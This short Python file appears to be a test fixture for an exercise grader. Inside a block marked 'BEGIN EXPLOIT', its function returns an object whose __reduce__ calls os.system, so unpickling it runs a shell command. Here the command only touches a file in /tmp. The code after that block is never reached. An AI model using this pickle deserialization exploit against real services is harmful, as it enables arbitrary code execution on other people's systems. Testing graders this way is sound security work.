"""Returns an object that runs code where it is unpickled."""
# exercise: double

import os

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/gradsteps-leftover-unpickled",)


def double(x, times=1):
    ### BEGIN EXPLOIT
    return np.array([Payload()], dtype=object) if x.size % 2 else Payload()
    ### END EXPLOIT
    return x * 3**times
